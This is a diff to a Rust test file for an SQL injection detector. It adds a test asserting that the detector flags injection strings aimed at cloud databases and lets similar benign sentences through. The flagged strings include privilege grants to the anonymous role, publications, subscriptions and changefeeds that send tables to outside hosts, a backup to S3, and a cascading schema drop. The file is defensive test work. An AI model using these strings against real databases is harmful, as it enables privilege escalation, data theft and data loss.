@@ -247,6 +247,31 @@ fn clause_keys_and_privilege_statements() {
 }
 
 #[test]
+fn cloud_databases_statements() {
+    for v in [
+        "'; GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO anon;--",
+        "'; GRANT USAGE ON SCHEMA vault TO authenticated;--",
+        "'; CREATE SERVER x FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.0.0.5');--",
+        "'; CREATE PUBLICATION leak FOR ALL TABLES;--",
+        "'; CREATE SUBSCRIPTION s CONNECTION 'host=198.51.100.2' PUBLICATION p;--",
+        "'; CREATE CHANGEFEED FOR TABLE payments INTO 'webhook-https://x.test/f';--",
+        "1; BACKUP DATABASE defaultdb INTO 's3://bkt/crdb?AWS_ACCESS_KEY_ID=A'--",
+        "'; SHOW CLUSTER SETTING server.host_based_authentication.configuration;--",
+        "acme\"; DROP SCHEMA \"globex\" CASCADE; --",
+    ] {
+        assert!(hit(v), "{v:?}");
+    }
+    for v in [
+        "Grant access on all tables in the room to the staff",
+        "create a server; create publication plans for the fall",
+        "We back up the database into the cloud; show cluster health",
+        "Server: create server-side rendering; subscription renews monthly",
+    ] {
+        assert!(!hit(v), "{v:?}");
+    }
+}
+
+#[test]
 fn sentences_quoting_a_symbol() {
     for v in [
         "x' = 'x",
